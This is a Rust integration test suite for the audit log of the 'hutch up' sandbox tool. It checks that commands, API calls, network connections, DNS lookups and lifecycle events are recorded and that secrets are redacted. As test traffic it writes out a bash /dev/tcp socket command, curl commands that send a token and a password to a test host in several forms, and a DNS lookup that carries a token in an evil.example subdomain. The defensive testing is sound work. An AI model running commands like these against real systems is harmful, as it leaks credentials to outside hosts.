//! The audit log of `hutch up`, as administrators read it.

use std::process::{Command, Output};

use hutch_testkit::wait::until;
use serde_json::Value;

use crate::harness::{Up, binary, succeeded, text};
use crate::policies::{SERVER, Server, applied, policy, rule, sandbox};

const SECRET: &str = "correct-horse-battery-staple-9431";
const SECRET_BASE64: &str = "Y29ycmVjdC1ob3JzZS1iYXR0ZXJ5LXN0YXBsZS05NDMx";

pub(crate) fn audit(up: &Up, words: &[&str]) -> Output {
    Command::new(binary()).arg("audit").args(words).arg("--data-dir").arg(up.data()).output().expect("hutch")
}

pub(super) fn read(up: &Up, words: &[&str]) -> String {
    succeeded(&words.join(" "), &audit(up, words))
}

/// Events of a kind, as JSON.
fn events(up: &Up, kind: &str) -> Vec<Value> {
    let printed = read(up, &["list", "--output", "json", "--kind", kind]);
    printed.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
}

#[track_caller]
pub(crate) fn eventually(up: &Up, words: &[&str], expected: &str) -> String {
    let mut printed = String::new();
    until(expected, || {
        printed = read(up, words);
        printed.lines().any(|line| expected.split('&').all(|part| line.contains(part)))
    });
    printed
}

fn with_pod(options: &[&str]) -> Up {
    let up = Up::start(options);
    up.ok("run box --image=hutch/host --restart=Never --command -- sleep 1000");
    up.ok("wait --for=condition=Ready pod/box --timeout=120s");
    up
}

#[test]
fn callers_and_sandboxes_are_recorded_without_secrets() {
    hutch_testkit::require!(root, kubectl);
    let up = with_pod(&[]);
    up.ok(&format!("create secret generic top --from-literal=key={SECRET}"));
    up.ok("get secret top -o yaml");
    let script = format!("KEY={SECRET}; exit 3");
    let exec = up.kubectl_args(&["exec", "box", "--", "sh", "-c", &script]);
    assert_eq!(exec.status.code(), Some(3), "{}", text(&exec.stderr));
    up.kubectl_args(&["exec", "box", "--", "bash", "-c", "exec 3<>/dev/tcp/192.0.2.1/80; cat <&3"]);
    up.kubectl_args(&["exec", "box", "--", "getent", "hosts", "closed.example"]);
    assert!(!up.kubectl("get pods --as=mallory").status.success());

    eventually(&up, &["list", "--kind", "api"], "allowed&create&top");
    eventually(&up, &["list", "--kind", "api", "--denied"], "mallory&denied");
    eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c");
    up.kubectl_args(&["exec", "box", "--", "no-such-command"]);
    eventually(&up, &["list", "--kind", "exec"], "failed&no-such-command&ended");
    eventually(&up, &["list", "--kind", "connection", "--denied"], "default/box&192.0.2.1:80");
    eventually(&up, &["list", "--kind", "dns", "--denied"], "default/box&closed.example");
    eventually(&up, &["list", "--kind", "lifecycle"], "default/box&container box started");
    let ended: Vec<Value> = events(&up, "exec").into_iter().filter(|event| event["exit_code"] == 3).collect();
    assert!(
        ended[0]["process"]["cmd_line"].as_str().is_some_and(|line| line.contains("exit 3")),
        "{ended:?}"
    );
    for sandbox in ["box", "sandbox/box", "default/box"] {
        assert!(read(&up, &["list", "--sandbox", sandbox, "--kind", "exec"]).contains("default/box"));
    }
    let none = audit(&up, &["list", "--sandbox", "absent"]);
    let error = text(&none.stderr);
    assert!(
        none.status.code() == Some(1) && error.lines().count() == 1 && error.contains("default/absent"),
        "{error}"
    );
    let writes = read(&up, &["list", "--kind", "api", "--writes", "--user", "admin"]);
    assert!(writes.contains("create secrets") && !writes.contains("get secrets"), "{writes}");
    let summary = read(&up, &["show", "box"]);
    for part in ["Sandbox default/box", "Destinations:", "192.0.2.1:80", "Commands:", "Callers:"] {
        assert!(summary.contains(part), "{part}: {summary}");
    }
    let all = read(&up, &["export"]);
    assert!(all.contains("\"top\"") && !all.contains(SECRET) && !all.contains(SECRET_BASE64));
    read(&up, &["verify"]);
}

/// Changes of the container `main` of a Sandbox or Pod, in their order.
fn changes(up: &Up, name: &str) -> Vec<String> {
    let printed = read(up, &["list", "--kind", "lifecycle"]);
    let name = format!("default/{name}");
    let of_it = printed.lines().filter(|line| line.split_whitespace().nth(2) == Some(name.as_str()));
    let change = |line: &str| line.split_once(" container main ").map(|(_, change)| change.to_owned());
    of_it.filter_map(change).collect()
}

/// Waits for as many changes of a Sandbox from a number on, which must be these. Returns the number of the next one.
#[track_caller]
fn changed(up: &Up, name: &str, from: usize, expected: &[&str]) -> usize {
    let mut found = Vec::new();
    until(&expected.join(", "), || {
        found = changes(up, name);
        found.len() >= from + expected.len()
    });
    assert_eq!(found[from..from + expected.len()], *expected, "{found:?}");
    from + expected.len()
}

#[test]
fn freeze_thaw_and_end_of_a_container_are_recorded() {
    hutch_testkit::require!(root, kubectl);
    let up = Up::start(&[]);
    let idle = serde_json::json!({"annotations": {"hutch.dev/idle-after": "1s"}});
    applied(&up, &sandbox("box", &idle, None));
    up.ok("wait --for=condition=Ready sandbox/box --timeout=120s");
    let frozen = changed(&up, "box", 0, &["started", "frozen"]);
    assert_eq!(up.ok("exec box -- echo hello"), "hello\n");
    let again = changed(&up, "box", frozen, &["thawed", "frozen"]);
    let set = |mode: &str| {
        let patch = format!(r#"{{"spec":{{"operatingMode":"{mode}"}}}}"#);
        up.ok_args(&["patch", "sandbox", "box", "--type=merge", "-p", &patch]);
    };
    set("Suspended");
    up.ok("wait --for=condition=Suspended sandbox/box --timeout=120s");
    // A frozen container can be thawed for its end.
    until("an end", || changes(&up, "box")[again..].iter().any(|change| change.starts_with("exited with ")));
    let suspended = changes(&up, "box");
    let last = suspended.last().expect("changes");
    assert!(suspended.len() <= again + 2 && last.starts_with("exited with "), "{suspended:?}");
    set("Running");
    up.ok("wait --for=condition=Ready sandbox/box --timeout=120s");
    changed(&up, "box", suspended.len(), &["started"]);
    // One that ends by itself.
    up.ok_args(&[
        "run",
        "main",
        "--image=hutch/host",
        "--restart=Never",
        "--command",
        "--",
        "sh",
        "-c",
        "exit 7",
    ]);
    changed(&up, "main", 0, &["started", "exited with 7"]);
    let json = events(&up, "lifecycle");
    let ended = json.iter().find(|event| event["exit_code"] == 7).expect("an end");
    assert_eq!(ended["activity_id"], 2, "{ended}");
    read(&up, &["verify"]);
}

#[test]
fn page_out_of_a_container_is_recorded() {
    hutch_testkit::require!(root, kubectl, python, swap);
    let _swap = hutch_testkit::swap::Swap::new(256 << 20);
    let up = Up::start(&[]);
    let idle =
        serde_json::json!({"annotations": {"hutch.dev/idle-after": "1s", "hutch.dev/page-out-after": "2s"}});
    let mut object = sandbox("box", &idle, None);
    let script = "import os, time; data = os.urandom(48 << 20); time.sleep(100000)";
    object["spec"]["podTemplate"]["spec"]["containers"][0]["command"] = vec!["python3", "-c", script].into();
    applied(&up, &object);
    up.ok("wait --for=condition=Ready sandbox/box --timeout=120s");
    let paged_out = changed(&up, "box", 0, &["started", "frozen", "paged out"]);
    assert_eq!(up.ok("exec box -- echo hello"), "hello\n");
    changed(&up, "box", paged_out, &["thawed"]);
}

#[test]
fn commands_about_a_log_say_what_is_wrong() {
    hutch_testkit::require!(root);
    let folder = tempfile::tempdir().unwrap();
    let run = |words: &[&str]| {
        let output =
            Command::new(binary()).arg("audit").args(words).arg("--data-dir").arg(folder.path()).output();
        let output = output.expect("hutch");
        (output.status.code(), text(&output.stderr))
    };
    let (code, error) = run(&["list"]);
    assert!(
        code == Some(1) && error.contains("--data-dir") && error.contains("`hutch up` writes one"),
        "{error}"
    );
    assert_eq!(error.lines().count(), 1, "{error}");
    let (code, error) = run(&["list", "--kind", "apis"]);
    assert!(code == Some(2) && error.contains("--kind") && error.contains("lifecycle"), "{error}");
    let (code, error) = run(&["export", "--to", "ftp://a"]);
    assert!(code == Some(2) && error.contains("--to") && error.contains("webhook+http"), "{error}");
}

#[test]
fn requests_through_the_router_and_copies_are_recorded() {
    hutch_testkit::require!(root, kubectl, curl);
    let up = Up::start(&["--router-listen", "127.0.0.1:0", "--audit", "strict"]);
    let sandbox = serde_json::json!({
        "apiVersion": "agents.x-k8s.io/v1beta1", "kind": "Sandbox", "metadata": {"name": "box"},
        "spec": {"podTemplate": {"spec": {"containers": [{"name": "main", "image": "hutch/python-runtime"}]}}},
    });
    let file = up.folder().join("sandbox.json");
    std::fs::write(&file, sandbox.to_string()).unwrap();
    up.ok(&format!("apply -f {}", file.display()));
    up.ok("wait --for=condition=Ready sandbox/box --timeout=60s");
    let printed = up.printed.iter().find_map(|line| line.strip_prefix("router")).unwrap();
    let address = printed.split_whitespace().next().unwrap();
    let token = std::fs::read_to_string(up.data().join("ca/router.token")).unwrap();
    let curl = |words: &[&str]| {
        let mut curl = Command::new("curl");
        curl.args(["--silent", "--retry", "10", "--retry-connrefused", "-H", "X-Sandbox-ID: box"])
            .args(words);
        text(&curl.output().expect("curl").stdout)
    };
    let bearer = format!("Authorization: Bearer {}", token.trim());
    let url = |path: &str| format!("{address}/{path}");
    let path = file.to_str().unwrap();
    let upload = format!("file=@{path}");
    curl(&["-H", &bearer, "-F", &upload, &url(&format!("upload?key={SECRET}"))]);
    let got = curl(&["-H", &bearer, &url("download/sandbox.json")]);
    assert!(got.contains("hutch/python-runtime"), "{got}");
    let command = format!(r#"{{"command":"sh -c 'KEY={SECRET}; echo ran'"}}"#);
    let ran = curl(&["-H", &bearer, "--json", &command, &url("execute")]);
    assert!(ran.contains(r#""stdout":"ran\n""#), "{ran}");
    eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c&echo ran&router-token");
    // The same over Connect and gRPC-Web, whose messages have frames.
    let rpc = |kind: &str, body: &[u8]| {
        let message = up.folder().join("message");
        std::fs::write(&message, body).unwrap();
        let (kind, body) = (format!("Content-Type: {kind}"), format!("@{}", message.display()));
        let url = url("process.v1.ProcessService/Execute");
        curl(&["-H", &bearer, "-H", "X-Sandbox-Port: 9090", "-H", &kind, "--data-binary", &body, &url])
    };
    let script = format!("KEY={SECRET}; echo connected");
    let ran =
        rpc("application/json", format!(r#"{{"config":{{"command":["sh","-c","{script}"]}}}}"#).as_bytes());
    assert!(ran.contains("Y29ubmVjdGVkCg=="), "{ran}");
    eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c&KEY=***&echo connected&router-token");
    let field = |bytes: &[u8]| [&[0x0a, u8::try_from(bytes.len()).unwrap()], bytes].concat();
    let script = format!("KEY={SECRET}; echo framed");
    let command = ["sh", "-c", &script].map(|argument| field(argument.as_bytes())).concat();
    let message = field(&command);
    let frame = [&[0, 0, 0, 0, u8::try_from(message.len()).unwrap()], message.as_slice()].concat();
    let ran = rpc("application/grpc-web+proto", &frame);
    assert!(ran.contains("framed"), "{ran}");
    eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c&KEY=***&echo framed&router-token");
    (0..20).for_each(|_| drop(curl(&["-H", "Authorization: Bearer wrong", &url("denied")])));
    eventually(&up, &["list", "--kind", "http"], "default/box&allowed&POST&/upload&router-token&200");
    eventually(&up, &["list", "--kind", "file"], "default/box&read sandbox.json (by router-token)");
    eventually(&up, &["list", "--kind", "http", "--denied"], "/denied&401");
    let refused = read(&up, &["list", "--kind", "http", "--denied"]);
    assert!(refused.lines().count() < 20, "{refused}");

    let copied = Command::new(binary())
        .args(["cp", path, "sandbox/box:/workspace/copy.json", "--kubeconfig"])
        .arg(up.kubeconfig())
        .output()
        .expect("hutch cp");
    assert!(copied.status.success(), "{}", text(&copied.stderr));
    eventually(&up, &["list", "--kind", "file", "--user", "admin"], "default/box&update /workspace");
    let all = read(&up, &["export"]);
    assert!(!all.contains(SECRET) && !all.contains(token.trim()));
    read(&up, &["verify"]);
}

#[test]
fn log_is_whole_after_kills() {
    hutch_testkit::require!(root, kubectl);
    for mode in ["strict", "on"] {
        let mut up = Up::start(&["--audit", mode]);
        let mut known = Vec::new();
        for round in 0..4 {
            for number in 0..4 {
                let name = format!("map-{round}-{number}");
                up.ok(&format!("create configmap {name}"));
                if mode == "on" {
                    // The record follows.
                    eventually(&up, &["list", "--kind", "api"], &format!("allowed&create&{name}"));
                }
                known.push(name);
            }
            // In the middle of further writes.
            let mut writing =
                up.kubectl_command(&["create", "namespace", &format!("late-{round}")]).spawn().unwrap();
            let delay = rand::random::<u64>() % 160;
            println!("--audit {mode}: killed {delay} ms after the start of a write");
            std::thread::sleep(std::time::Duration::from_millis(delay));
            up.kill();
            let _ = writing.wait();
            up.restart();
        }
        read(&up, &["verify"]);
        let all = read(&up, &["export"]);
        for name in known {
            assert!(all.contains(&name), "--audit {mode}: {name} was recorded and is not in the log");
        }
    }
}

/// Finds secrets in the log, also in what it would decode to.
fn secrets(log: &str) -> Vec<(String, String)> {
    let scanner = hutch_scan::Scanner::builtin();
    let mut found = Vec::new();
    for line in log.lines() {
        let mut state = hutch_scan::State::new(hutch_scan::Direction::Outbound);
        let location = hutch_scan::Location::new(hutch_scan::At::Body);
        let findings = scanner.scan_whole(&mut state, &location, line.as_bytes());
        let secrets = findings.into_iter().filter(|finding| finding.kind == hutch_scan::Kind::Secret);
        found.extend(secrets.map(|finding| (finding.rule, line.to_owned())));
    }
    found
}

/// Sends texts to a Sandbox over a WebSocket, through the router.
fn talk(up: &Up, texts: &[&str]) {
    use futures::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::client::IntoClientRequest;
    let token = std::fs::read_to_string(up.data().join("ca/router.token")).expect("the router's token");
    let address = format!("ws://{}/talk?token={}", up.router(), texts[0]);
    let mut request = address.into_client_request().expect("a request");
    for (name, value) in [
        ("x-sandbox-id", "box".to_owned()),
        ("x-sandbox-port", "9000".to_owned()),
        ("authorization", format!("Bearer {}", token.trim())),
        ("x-own-key", texts[0].to_owned()),
    ] {
        request.headers_mut().insert(name, value.parse().expect("a value"));
    }
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    runtime.block_on(async {
        let (mut socket, _) = tokio_tungstenite::connect_async(request).await.expect("switched");
        for text in texts {
            socket.send((*text).into()).await.expect("sent");
            let answer = socket.next().await.expect("an answer").expect("a message");
            assert_eq!(answer.into_text().expect("text").as_str(), text.to_uppercase());
        }
    });
}

#[test]
fn scanner_finds_no_secret_that_programs_use_in_the_log() {
    hutch_testkit::require!(root, kubectl, curl, python);
    let web = Server::start();
    let hosts = format!("127.0.0.1 localhost\n{SERVER} web.example\n");
    let up = Up::start_outside(&hosts, &[], &["--router-listen", "127.0.0.1:0"]);
    applied(
        &up,
        &policy(
            "ClusterSandboxPolicy",
            "open",
            &serde_json::json!({}),
            &vec![rule("web.example", &web)].into(),
        ),
    );
    // Made of parts, so that scanners of repositories do not report this file.
    let token = ["ghp_x7Kq2mW9vLp4Rt8s", "Zc1Yb6Nd3Jf5Hg0QaEuT"].concat();
    let basic = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, format!("git:{token}"));
    up.ok(&format!("create secret generic top --from-literal=key={token}"));
    let mut talker = sandbox("box", &serde_json::json!({}), None);
    let container = &mut talker["spec"]["podTemplate"]["spec"]["containers"][0];
    container["command"] = vec!["python3", "-u", "-c", crate::websocket::SERVER].into();
    container["env"] =
        serde_json::json!([{"name": "GITHUB_TOKEN", "value": token}, {"name": "PASSWORD", "value": SECRET}]);
    applied(&up, &talker);
    up.ok("wait --for=condition=Ready sandbox/box --timeout=120s");
    let url = format!("http://web.example:{}", web.port);
    for secret in [token.as_str(), SECRET] {
        for script in [
            format!("curl -s -H 'Authorization: Bearer {secret}' -H 'X-Api-Key: {secret}' {url}/header"),
            format!("curl -s -u git:{secret} '{url}/query?access_token={secret}&b=1'"),
            format!("curl -s -H 'Cookie: session={secret}' --data 'password={secret}' {url}/form"),
            format!("curl -s -A 'agent/1 token={secret}' --json '{{\"api_key\": \"{secret}\"}}' {url}/json"),
            format!("export GITHUB_TOKEN={secret}; PASSWORD={secret} env > /dev/null"),
            format!("echo 'https://git:{secret}@web.example/x.git' > /dev/null"),
        ] {
            let output = up.kubectl_args(&["exec", "box", "--", "sh", "-c", &script]);
            succeeded(&script, &output);
        }
    }
    // Reasons, names of hosts and lookups.
    for script in
        [format!("curl -s -H 'Host: {token}' {url}/host"), format!("getent hosts {token}.evil.example")]
    {
        up.kubectl_args(&["exec", "box", "--", "sh", "-c", &script]);
    }
    up.kubectl_args(&[
        "exec",
        "box",
        "--",
        "curl",
        "-s",
        "-H",
        &format!("Authorization: Basic {basic}"),
        &url,
    ]);
    talk(&up, &[&token, SECRET]);

    eventually(&up, &["list", "--kind", "http"], "default/box&web.example&/json");
    eventually(&up, &["list", "--kind", "http"], "default/box&/talk");
    eventually(&up, &["list", "--kind", "dns"], "default/box&***.evil.example");
    eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c&curl -s&exited with 0");
    eventually(&up, &["list", "--kind", "api"], "allowed&create&top");
    let log = read(&up, &["export"]);
    for secret in [token.as_str(), SECRET, SECRET_BASE64, basic.as_str()] {
        let lines: Vec<_> = log.lines().filter(|line| line.contains(secret)).collect();
        assert!(lines.is_empty(), "{secret}: {lines:#?}");
    }
    assert_eq!(secrets(&log), []);
    // The scanner finds what is there.
    let with = log.replace("/json", &format!("/json?{token}"));
    assert!(!secrets(&with).is_empty());
}
